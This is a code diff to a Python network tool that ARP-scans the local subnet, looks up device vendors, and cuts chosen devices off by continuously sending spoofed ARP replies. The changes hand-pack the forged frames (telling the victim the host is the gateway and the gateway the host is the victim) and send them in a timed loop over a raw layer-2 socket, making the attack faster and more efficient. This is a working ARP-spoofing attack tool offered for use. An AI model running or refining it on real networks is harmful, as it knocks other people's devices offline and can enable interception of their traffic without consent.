@@ -4,10 +4,40 @@
 from scapy.all import *
 from mac_vendor_lookup import MacLookup
 import time
+import threading
+import ipaddress
+import socket
+import struct
 
 # Interface settings - will be detected automatically
 INTERFACE = None
 
+SEND_INTERVAL = 0.2  # سرعة الإرسال (ممكن تزودها أو تقللها)
+
+# Cached L2 socket used for sending spoofed frames
+SPOOF_SOCK = None
+SPOOF_IFACE = None
+
+ETH_P_ARP = 0x0806
+SCAN_TIMEOUT = 2
+
+# One vendor database shared by every lookup
+MAC_LOOKUP = MacLookup()
+# {"001122": "Vendor"} built from MAC_LOOKUP's OUI list on first use
+OUI_MAP = None
+OUI_LOCK = threading.Lock()
+# Cleared if mac_vendor_lookup's internals no longer look as expected
+OUI_LAYOUT_OK = True
+
+def mac_bytes(mac):
+    """'aa:bb:cc:dd:ee:ff' -> 6 raw bytes"""
+    return bytes.fromhex(mac.replace(":", "").replace("-", ""))
+
+def make_arp(op, src_mac, src_ip, dst_mac, dst_ip, eth_dst):
+    """Pack an Ethernet + ARP frame (42 bytes); addresses are raw bytes"""
+    return struct.pack("!6s6sHHHBBH6s4s6s4s", eth_dst, src_mac, ETH_P_ARP,
+                       1, 0x0800, 6, 4, op, src_mac, src_ip, dst_mac, dst_ip)
+
 def get_active_interface():
     """Detect the active network interface with readable names"""
     active_ifaces = []
@@ -52,11 +82,19 @@ def scan_network():
     gateway_ip = conf.route.route("0.0.0.0")[2]
     ip_range = f"{gateway_ip}/24"
     
+    my_mac = get_if_hwaddr(INTERFACE)
+
+    # The scan mostly waits on replies; parse the vendor list meanwhile
+    warm_up_vendors()
+
+    # Raw AF_PACKET sockets only exist on Linux; use Scapy elsewhere
+    if hasattr(socket, "AF_PACKET"):
+        return arp_scan_raw(ip_range, my_mac, get_if_addr(INTERFACE))
+
     # Send ARP requests
     ans, _ = srp(Ether(dst="ff:ff:ff:ff:ff:ff")/ARP(pdst=ip_range),
-                timeout=2, iface=INTERFACE, verbose=False)
+                timeout=SCAN_TIMEOUT, iface=INTERFACE, verbose=False)
     
-    my_mac = get_if_hwaddr(INTERFACE)
     devices = []
     
     for _, rcv in ans:
@@ -65,6 +103,99 @@ def scan_network():
     
     return devices
 
+def arp_scan_raw(ip_range, my_mac, my_ip):
+    """ARP scan over a raw socket, packing and parsing frames by hand"""
+    src_mac = mac_bytes(my_mac)
+    src_ip = socket.inet_aton(my_ip)
+
+    devices = {}
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP)) as s:
+        s.bind((INTERFACE, ETH_P_ARP))
+        for host in ipaddress.ip_network(ip_range, strict=False).hosts():
+            s.send(make_arp(1, src_mac, src_ip, b"\x00" * 6, host.packed, b"\xff" * 6))
+
+        deadline = time.monotonic() + SCAN_TIMEOUT
+        while True:
+            remaining = deadline - time.monotonic()
+            if remaining <= 0:
+                break
+            s.settimeout(remaining)
+            try:
+                buf = s.recv(60)
+            except socket.timeout:
+                break
+            # Only ARP replies addressed to us
+            if len(buf) < 42 or buf[12:14] != b"\x08\x06" or buf[20:22] != b"\x00\x02":
+                continue
+            sender_mac = buf[22:28]
+            if sender_mac == src_mac or buf[32:38] != src_mac:
+                continue
+            sender_ip = socket.inet_ntoa(buf[28:32])
+            devices[sender_ip] = ":".join(f"{b:02x}" for b in sender_mac)
+
+    return list(devices.items())
+
+def load_oui_map():
+    """Copy the OUI vendor list into a prefix -> vendor dict once; None until it loads"""
+    global OUI_MAP, OUI_LAYOUT_OK
+    with OUI_LOCK:
+        if OUI_MAP is not None or not OUI_LAYOUT_OK:
+            return OUI_MAP
+        try:
+            # With no cached list yet this downloads it (load_vendors calls
+            # update_vendors), like the first MacLookup.lookup() would
+            MAC_LOOKUP.load_vendors()
+        except Exception:
+            # Offline on the first run, a truncated cache file, a dropped
+            # download...: lookups say "Unknown Vendor" and retry next time
+            return None
+        try:
+            # mac_vendor_lookup 0.1.x keeps the parsed list in
+            # MacLookup.async_lookup.prefixes as {b"001122": b"Vendor", ...}
+            prefixes = MAC_LOOKUP.async_lookup.prefixes
+            OUI_MAP = {k.decode(errors="replace").upper(): v.decode(errors="replace")
+                       for k, v in prefixes.items()}
+        except AttributeError:
+            # Layout changed: lookup_vendor falls back to the public API
+            print("[!] Unexpected mac_vendor_lookup layout, using MacLookup.lookup()")
+            OUI_LAYOUT_OK = False
+        return OUI_MAP
+
+def _load_oui_map_quietly():
+    """Warm-up thread target: never let a traceback print over the scan"""
+    try:
+        load_oui_map()
+    except Exception:
+        pass  # lookup_vendor calls load_oui_map again and handles it there
+
+def warm_up_vendors():
+    """Start loading the OUI list in the background if it isn't loaded yet"""
+    if OUI_MAP is None and OUI_LAYOUT_OK:
+        threading.Thread(target=_load_oui_map_quietly, daemon=True).start()
+
+def lookup_vendor(mac):
+    """Return the vendor for a MAC address from its first 3 bytes"""
+    oui_map = load_oui_map()
+    if not OUI_LAYOUT_OK:
+        try:
+            return MAC_LOOKUP.lookup(mac)
+        except Exception:
+            return "Unknown Vendor"
+    if oui_map is None:
+        return "Unknown Vendor"
+    oui = mac.upper().replace(":", "").replace("-", "")[:6]
+    return oui_map.get(oui, "Unknown Vendor")
+
+def get_spoof_socket():
+    """Return the L2 socket for INTERFACE, opening it only once"""
+    global SPOOF_SOCK, SPOOF_IFACE
+    if SPOOF_SOCK is None or SPOOF_IFACE != INTERFACE:
+        if SPOOF_SOCK is not None:
+            SPOOF_SOCK.close()
+        SPOOF_SOCK = conf.L2socket(iface=INTERFACE)
+        SPOOF_IFACE = INTERFACE
+    return SPOOF_SOCK
+
 def block_device(target_mac, target_ip):
     """Block a device using continuous ARP Spoofing until stopped"""
     gateway_ip = conf.route.route("0.0.0.0")[2]
@@ -74,26 +205,35 @@ def block_device(target_mac, target_ip):
         print("Could not get gateway MAC address!")
         return
 
-    pkt_to_victim = Ether(dst=target_mac) / ARP(
-        op=2,
-        pdst=target_ip,
-        psrc=gateway_ip,
-        hwdst=target_mac
-    )
+    my_mac = mac_bytes(get_if_hwaddr(INTERFACE))
+    target_mac_b = mac_bytes(target_mac)
+    gateway_mac_b = mac_bytes(gateway_mac)
+    target_ip_b = socket.inet_aton(target_ip)
+    gateway_ip_b = socket.inet_aton(gateway_ip)
+
+    # The ARP payload never changes, so pack both frames once
+    # Tell the victim we are the gateway...
+    raw_to_victim = make_arp(2, my_mac, gateway_ip_b, target_mac_b, target_ip_b,
+                             eth_dst=target_mac_b)
+    # ...and the gateway that we are the victim
+    raw_to_gateway = make_arp(2, my_mac, target_ip_b, gateway_mac_b, gateway_ip_b,
+                              eth_dst=gateway_mac_b)
 
-    pkt_to_gateway = Ether(dst=gateway_mac) / ARP(
-        op=2,
-        pdst=gateway_ip,
-        psrc=target_ip,
-        hwdst=gateway_mac
-    )
+    sock = get_spoof_socket()
 
     print(f"[+] Blocking {target_ip} ({target_mac})... Press CTRL+C to stop.")
     try:
+        next_tick = time.monotonic()
         while True:
-            sendp(pkt_to_victim, iface=INTERFACE, verbose=False)
-            sendp(pkt_to_gateway, iface=INTERFACE, verbose=False)
-            time.sleep(0.2)  # سرعة الإرسال (ممكن تزودها أو تقللها)
+            sock.send(raw_to_victim)
+            sock.send(raw_to_gateway)
+            # Sleep only what is left of the period, so send time doesn't add up
+            next_tick += SEND_INTERVAL
+            delay = next_tick - time.monotonic()
+            if delay > 0:
+                time.sleep(delay)
+            else:
+                next_tick = time.monotonic()
     except KeyboardInterrupt:
         print(f"\n[!] Stopped blocking {target_ip}")
 
@@ -112,10 +252,7 @@ def main():
         print("\nConnected devices:")
         print("-"*40)
         for i, (ip, mac) in enumerate(devices):
-            try:
-                vendor = MacLookup().lookup(mac)
-            except:
-                vendor = "Unknown Vendor"
+            vendor = lookup_vendor(mac)
             print(f"{i}. {ip} - {mac} ({vendor})")
         
         print("\nEnter the numbers of devices you want to block (e.g., 0 2 3)")